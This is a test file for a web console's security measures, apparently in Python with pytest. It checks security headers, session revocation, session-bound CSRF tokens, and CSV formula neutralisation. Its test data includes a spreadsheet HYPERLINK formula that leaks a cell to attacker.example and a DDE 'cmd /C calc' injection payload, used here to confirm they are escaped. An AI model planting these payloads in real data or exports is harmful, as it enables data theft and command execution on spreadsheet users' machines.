"""What keeps the console's pages to those who should see them: headers, server-side sessions,
a CSRF token bound to the session, and CSV cells a spreadsheet will not run."""

from __future__ import annotations

import csv
import io
import re

import httpx
import pytest
from fastapi import FastAPI
from sqlmodel.ext.asyncio.session import AsyncSession

from app.staff import create_user
from console.pages import spreadsheet_safe
from tests.conftest import graphql, now
from tests.console.test_console import PASSWORD, csrf_of, sign_in

HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
HOSTILE_EXTERNAL_ID = "@SUM(1+1)*cmd|' /C calc'!A0 \"☃\""


@pytest.fixture
async def staff(session: AsyncSession) -> None:
    await create_user(session, email="cs@example.com", role="support", password=PASSWORD, as_of=now())
    await session.commit()


def assert_console_headers(response: httpx.Response) -> None:
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    assert response.headers["cache-control"] == "no-store"
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]


async def test_console_responses_carry_the_security_headers(client: httpx.AsyncClient, staff: None) -> None:
    login = await client.get("/console/login")
    assert_console_headers(login)
    assert "strict-transport-security" not in login.headers, "no HSTS over plain HTTP"
    signed_in = await sign_in(client, "cs@example.com", PASSWORD)
    assert_console_headers(signed_in)
    for path in ("/console/customers", "/console/customers.csv", "/console/nowhere"):
        assert_console_headers(await client.get(path))
    refused = await client.post("/console/customers", data={"name": "X"})
    assert refused.status_code == 403
    assert_console_headers(refused)
    static = await client.get("/static/console.css")
    assert static.headers["x-content-type-options"] == "nosniff"
    assert "no-store" not in static.headers.get("cache-control", ""), "static files stay cacheable"


async def test_hsts_is_sent_over_https(app: FastAPI) -> None:
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="https://tally.test") as https:
        page = await https.get("/console/login")
    assert page.headers["strict-transport-security"].startswith("max-age=")


async def test_a_copied_cookie_stops_working_at_sign_out(app: FastAPI, client: httpx.AsyncClient, staff: None) -> None:
    await sign_in(client, "cs@example.com", PASSWORD)
    page = await client.get("/console/customers")
    assert page.status_code == 200
    copied = dict(client.cookies)
    await client.post("/console/logout", data={"csrftoken": csrf_of(page.text)})
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://tally.test", cookies=copied
    ) as replay:
        replayed = await replay.get("/console/customers")
        assert replayed.status_code == 303
        assert replayed.headers["location"].startswith("/console/login")


async def test_sign_out_ends_only_that_session(app: FastAPI, client: httpx.AsyncClient, staff: None) -> None:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://tally.test") as other:
        await sign_in(other, "cs@example.com", PASSWORD)
        await sign_in(client, "cs@example.com", PASSWORD)
        page = await client.get("/console/customers")
        await client.post("/console/logout", data={"csrftoken": csrf_of(page.text)})
        assert (await client.get("/console/customers")).status_code == 303
        assert (await other.get("/console/customers")).status_code == 200


async def test_a_bearer_header_does_not_switch_the_csrf_check_off(
    client: httpx.AsyncClient, staff: None, token_for, session: AsyncSession
) -> None:
    admin = await token_for("admin")
    await sign_in(client, "cs@example.com", PASSWORD)
    forged = await client.post(
        "/console/customers",
        data={"external_id": "org_forged", "name": "Forged", "currency": "USD"},
        headers={"Authorization": f"Bearer {admin}"},
    )
    assert forged.status_code == 403
    found = await graphql(client, admin, '{ customers(search: "org_forged", first: 1) { edges { node { id } } } }')
    assert found.json()["data"]["customers"]["edges"] == [], "a refused POST changes nothing"


async def test_the_csrf_token_is_bound_to_the_session(app: FastAPI, client: httpx.AsyncClient, staff: None) -> None:
    """Another session's token is refused, even with that session's other cookies copied beside
    it (a double-submit token would pass then); the sign-in form's token ends at sign-in."""
    login_page = await client.get("/console/login")
    before_sign_in = csrf_of(login_page.text)
    await sign_in(client, "cs@example.com", PASSWORD)
    theirs = csrf_of((await client.get("/console/customers")).text)
    assert theirs != before_sign_in
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://tally.test") as victim:
        await sign_in(victim, "cs@example.com", PASSWORD)
        for name, value in client.cookies.items():
            if name != "tally_session":
                victim.cookies.set(name, value)
        planted = await victim.post(
            "/console/customers",
            data={"external_id": "org_planted", "name": "Planted", "currency": "USD", "csrftoken": theirs},
        )
        assert planted.status_code == 403
    stale = await client.post(
        "/console/customers",
        data={"external_id": "org_stale", "name": "Stale", "currency": "USD", "csrftoken": before_sign_in},
    )
    assert stale.status_code == 403
    fresh = await client.post(
        "/console/customers",
        data={"external_id": "org_fresh", "name": "Fresh", "currency": "USD", "csrftoken": theirs},
    )
    assert fresh.status_code == 303
    header_only = await client.post("/console/logout", headers={"X-CSRFToken": theirs})
    assert header_only.status_code == 303, "htmx sends the token as a header"


async def test_csv_exports_neutralise_formulas(client: httpx.AsyncClient, staff: None) -> None:
    await sign_in(client, "cs@example.com", PASSWORD)
    token = csrf_of((await client.get("/console/customers")).text)
    created = await client.post(
        "/console/customers",
        data={"external_id": HOSTILE_EXTERNAL_ID, "name": HOSTILE_NAME, "currency": "USD", "csrftoken": token},
    )
    assert created.status_code == 303
    exported = await client.get("/console/customers.csv", params={"search": "attacker.example"})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(row["name"], row["external_id"]) for row in rows] == [("'" + HOSTILE_NAME, "'" + HOSTILE_EXTERNAL_ID)]
    invoices = await client.get(f"{created.headers['location']}/invoices.csv")
    assert invoices.status_code == 200, "the file is named after the external id, which may be any text"
    disposition = invoices.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', disposition), disposition


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5.00", "-5.00"),
        ("+12", "+12"),
        ("Acme = best", "Acme = best"),
        (42, 42),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe
